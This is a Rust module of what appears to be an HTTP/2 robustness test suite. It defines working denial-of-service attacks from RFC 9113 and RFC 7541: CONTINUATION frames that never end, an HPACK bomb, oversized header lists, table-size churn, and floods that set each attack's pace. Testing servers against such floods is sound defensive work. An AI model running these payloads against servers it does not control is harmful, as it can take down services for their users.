//! Header blocks: without end, or larger than they look (RFC 9113, sections 10.5.1
//! and 6.10; RFC 7541, section 7).

use larder_transport::error_codes::ErrorCode;
use larder_transport::frame::{Kind, flag};
use larder_transport::hpack::write_literal;

use super::{Attack, Attacking, CALM, Ends, Pace, Target, attack, flood};
use crate::calls;
use crate::wire::{frame, open_request};

pub(super) const ATTACKS: &[Attack] = &[
    attack(
        "continuations",
        "a header block of empty frames that does not end",
        CALM,
        |target| endless_block(target, 0),
    ),
    attack(
        "continuations-large",
        "a header block of large frames that does not end",
        CALM,
        |target| endless_block(target, 16_384),
    ),
    attack(
        "hpack-bomb",
        "an entry of 4 KiB, inserted once and named 16,000 times in a request",
        CALM,
        |target| {
            Box::pin(async move {
                let mut block = vec![0x40];
                // A name of one octet, and a value of 3,968: 127 + 30 * 128 + 1.
                block.extend_from_slice(b"\x01x\x7f\x81\x1e");
                block.resize(block.len() + 3968, b'v');
                let mut before = Vec::new();
                open_request(&mut before, 1, &block);
                let bomb = vec![0xbe; 16_000];
                flood(
                    &target,
                    Pace {
                        batch: 1,
                        ..Pace::FAST
                    },
                    &before,
                    |out, stream| {
                        open_request(out, stream + 2, &bomb);
                    },
                )
                .await
            })
        },
    ),
    attack(
        "header-list",
        "header lists over their limit",
        CALM,
        |target| {
            Box::pin(async move {
                let long = "v".repeat(5000);
                let more = ["a", "b", "c", "d"].map(|name| (name, &long[..]));
                let block = calls::grpc_block(calls::GET, &more);
                flood(
                    &target,
                    Pace {
                        batch: 4,
                        ..Pace::FAST
                    },
                    &[],
                    |out, stream| {
                        let (first, second) = block.split_at(16_384);
                        frame(out, Kind::HEADERS, flag::END_STREAM, stream, first);
                        frame(out, Kind::CONTINUATION, flag::END_HEADERS, stream, second);
                    },
                )
                .await
            })
        },
    ),
    attack(
        "hpack-table-sizes",
        "thousands of changes of the table's size in each request",
        Ends::Never,
        |target| {
            Box::pin(async move {
                let mut block = b"\x20\x3f\xe1\x1f".repeat(4000);
                block.extend(calls::grpc_block(calls::GET, &[]));
                flood(
                    &target,
                    Pace {
                        batch: 4,
                        ..Pace::FAST
                    },
                    &[],
                    |out, stream| {
                        frame(out, Kind::HEADERS, 5, stream, &block);
                    },
                )
                .await
            })
        },
    ),
    attack(
        "hpack-churn",
        "requests that fill the table with empty entries, and empty it again",
        Ends::Never,
        |target| {
            Box::pin(async move {
                let mut block = b"\x20\x3f\xe1\x1f".to_vec();
                block.extend(calls::grpc_block(calls::GET, &[]));
                for _ in 0..400 {
                    block.extend_from_slice(b"\x40\x01a\0");
                }
                flood(
                    &target,
                    Pace {
                        batch: 8,
                        ..Pace::FAST
                    },
                    &[],
                    |out, stream| {
                        frame(out, Kind::HEADERS, 5, stream, &block);
                    },
                )
                .await
            })
        },
    ),
    attack(
        "hpack-table-too-large",
        "a table larger than the server allows",
        Ends::With(&[ErrorCode::COMPRESSION_ERROR]),
        |target| {
            Box::pin(async move {
                let mut block = b"\x3f\xe1\xff\x3f".to_vec();
                write_literal(&mut block, b":method", b"POST");
                flood(
                    &target,
                    Pace {
                        batch: 1,
                        ..Pace::FAST
                    },
                    &[],
                    |out, stream| {
                        open_request(out, stream, &block);
                    },
                )
                .await
            })
        },
    ),
];

fn endless_block(target: Target, bytes: usize) -> Attacking {
    // Literals that go on and on: whatever they are, they are decoded at the end.
    let part = vec![0; bytes];
    let pace = Pace {
        batch: 1,
        ..Pace::FAST
    };
    Box::pin(async move {
        flood(&target, pace, &[], |out, stream| {
            let (kind, flags) = if stream == 1 {
                (Kind::HEADERS, flag::END_STREAM)
            } else {
                (Kind::CONTINUATION, 0)
            };
            frame(out, kind, flags, 1, &part);
        })
        .await
    })
}
